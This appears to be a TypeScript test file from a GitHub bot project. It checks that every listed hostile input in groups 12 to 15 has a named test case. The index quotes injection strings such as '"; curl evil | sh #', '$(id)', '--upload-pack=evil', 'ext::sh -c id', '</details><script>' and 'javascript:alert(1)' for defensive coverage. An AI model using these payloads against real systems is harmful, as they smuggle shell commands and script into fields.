import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, it } from 'vitest';

const ROOT = fileURLToPath(new URL('.', import.meta.url));
const [MERGED, CLAIMS, NAMES, BODIES] = [
  'flows/check-merged.test.ts',
  'flows/hostile/claims.test.ts',
  'forge/hostile.test.ts',
  'report/bodies.ts', // HOSTILE: rendered by report/properties and golden tests, and by cmark-gfm in oracle/gfm.test.ts
];
const [PORT, GITHUB, BEHAVIOUR] = [
  'forge/contract.ts',
  'forge/github.test.ts',
  'forge/github-behaviour.test.ts',
];

/** Hostile inputs by group: each with the file that has its case, and words of that. Groups 1 to 11 are in flows/hostile/README.md. */
const INDEX: readonly (readonly [string, string, string])[] = [
  ['12 EVR that does not exist', MERGED, 'a build that does not exist'],
  ['12 never in the upstream tier', MERGED, 'a build that its parent never had'],
  ['12 another sha256', MERGED, 'another sha256'],
  ['12 removes a package others need', MERGED, 'removal of what others need'],
  ['12 downgrade without kind', MERGED, 'a downgrade that is no rollback'],
  ['12 edits another team', CLAIMS, 'an edit of a policy'],
  ['12 workflow in a promotion', CLAIMS, '.github/workflows/release.yaml'],
  ['12 workflow in a bot’s amended commit', MERGED, '.github/workflows/x.yml'],
  ['12 CODEOWNERS in a promotion', CLAIMS, 'CODEOWNERS'],
  ['13 "; curl evil | sh #', NAMES, "'\"; curl evil | sh #'"],
  ['13 $(id)', NAMES, "'$(id)'"],
  ['13 backticks', NAMES, "'`id`'"],
  ['13 an expression of a workflow', NAMES, '{ secrets.X }}'],
  ['13 newline', NAMES, 'a\\nSluice-Now'],
  ['13 --upload-pack', NAMES, "'--upload-pack=evil'"],
  ['13 ext::sh -c', NAMES, "'ext::sh -c id'"],
  ['13 [skip ci]', NAMES, "'[skip ci]'"],
  ['13 skip-checks: true', NAMES, "'skip-checks: true'"],
  ['13 300 characters', NAMES, "'x'.repeat(301)"],
  ['13 right-to-left', NAMES, "'a\\u202eb'"],
  ['13 in a workflow’s form', 'flows/hotfix-inputs.test.ts', "PACKAGES: 'alpha; curl evil | sh'"],
  ['14 @torvalds, Fixes #1, org/repo#1', BODIES, '@torvalds Fixes #1, closes GH-1 and org/repo#2'],
  ['14 </details><script>', BODIES, '</details><script>'],
  ['14 image', BODIES, '![](http://'],
  ['14 a row of a table', BODIES, '| a | b |'],
  ['14 fence', BODIES, '```\\n# owned'],
  ['14 forged marker', BODIES, '<!-- sluice:v1 eyJ'],
  ['14 forged tick box', BODIES, '- [x] <!-- sluice:rebuild -->'],
  ['14 ESC[2J', BODIES, '\\u001b[2J'],
  ['14 ::set-output, ::add-mask', BODIES, '::set-output name=x::y ##[add-mask]z'],
  ['14 70,000 characters', BODIES, "'x'.repeat(70_000)"],
  ['14 javascript: as an advisory’s address', BODIES, "'javascript:alert(1)'"],
  ['14 in a terminal', 'report/hostile.test.ts', 'a terminal escape (C1)'],
  ['14 as an annotation, in a job’s log', 'flows/hostile/annotations.test.ts', 'HOSTILE'],
  ['14 on a check page', 'report/check-page.test.ts', 'HOSTILE'],
  ['14 as GitHub parses it', 'oracle/gfm.test.ts', "['hostile', hostile()]"],
  ['14 homoglyph name', 'flows/hostile/annotations.test.ts', '\\u0430'],
  ['15 head moved', GITHUB, 'a head that moves between the look and the write'],
  ['15 closed', BEHAVIOUR, "['closed'"],
  ['15 merged', BEHAVIOUR, "['merged'"],
  ['15 locked', BEHAVIOUR, "'locked, and people have commits on it"],
  ['15 draft', BEHAVIOUR, "'made a draft'"],
  ['15 label removed', BEHAVIOUR, "'without its label'"],
  ['15 base renamed', BEHAVIOUR, "'turned to another base"],
  ['15 branch deleted', BEHAVIOUR, "'without its branch'"],
  ['15 same-named branch of another author', PORT, 'does not take over a branch that it did not make'],
  ['15 forged marker of a person', BEHAVIOUR, 'a person wrote with a forged marker'],
  ['15 body edited', BEHAVIOUR, 'a person edited: notes below'],
  ['15 two bots', GITHUB, 'two bots at once'],
  ['15 403 secondary', BEHAVIOUR, "['403, secondary limit'"],
  ['15 403 secondary with retry-after', BEHAVIOUR, "'403, secondary limit, retry-after'"],
  ['15 429', BEHAVIOUR, "['429'"],
  ['15 502 after success', GITHUB, 'a 502 after %s: done once'],
  ['15 304', BEHAVIOUR, '304 to what was not conditional'],
  ['15 more than 100', BEHAVIOUR, 'more than a hundred are open'],
  ['15 mergeable: null', BEHAVIOUR, 'mergeable: null'],
  ['15 422 of each kind', BEHAVIOUR, 'each 422 to a new pull request'],
  ['15 410', BEHAVIOUR, '410, issues are switched off'],
  ['15 token expired', GITHUB, 'again where one ends in mid-run'],
  ['15 archived', BEHAVIOUR, "['archived'"],
  ['15 missing permission', BEHAVIOUR, "['missing permission'"],
  ['15 merge queue', BEHAVIOUR, 'with a merge queue'],
  ['15 squash disabled', BEHAVIOUR, 'with squash switched off'],
  ['15 answers that GitHub cannot have given', 'forge/hostile-github.test.ts', 'HTML with 200: a login page'],
];

it('every hostile input of the groups 12 to 15 has a named case', () => {
  const texts = new Map<string, string>();
  const missing = INDEX.filter(([, file, words]) => {
    const text = texts.get(file) ?? readFileSync(join(ROOT, file), 'utf8');
    texts.set(file, text);
    return !text.includes(words);
  });
  expect(missing).toEqual([]);
  expect(new Set(INDEX.map(([input]) => input)).size).toBe(INDEX.length);
});
